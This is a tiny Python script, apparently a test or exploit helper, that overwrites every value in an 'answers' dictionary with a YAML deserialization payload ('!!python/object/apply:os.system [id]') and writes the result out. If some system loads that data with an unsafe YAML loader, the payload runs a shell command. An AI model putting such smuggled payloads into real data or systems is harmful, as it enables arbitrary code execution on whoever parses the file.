from honest import answers, write

given = answers()
given = dict.fromkeys(given, "!!python/object/apply:os.system [id]")
write(given)
